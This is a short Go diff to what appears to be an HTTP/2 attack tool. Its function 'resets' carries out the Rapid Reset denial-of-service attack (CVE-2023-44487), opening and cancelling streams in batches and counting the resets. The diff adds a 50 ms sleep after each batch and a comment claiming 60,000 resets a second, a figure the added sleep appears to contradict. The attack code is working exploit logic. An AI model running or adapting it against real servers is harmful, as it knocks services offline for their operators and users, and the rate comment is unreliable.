@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"io"
 	"net"
+	"time"
 )
 
 // Frames of HTTP/2 (RFC 9113, section 6), and of HPACK (RFC 7541, appendix A) the header
@@ -82,7 +83,7 @@ func (f *framed) send() bool {
 }
 
 // resets opens streams from far behind, again and again, and takes each back at once
-// (CVE-2023-44487).
+// (CVE-2023-44487): 60,000 a second.
 func resets(a *attacker) {
 	const together = 50
 	for range 9 {
@@ -104,6 +105,7 @@ func resets(a *attacker) {
 			}
 			if f.send() {
 				a.count("reset", together)
+				time.Sleep(50 * time.Millisecond)
 			} else {
 				a.count("cut", 1)
 				f.conn.Close()
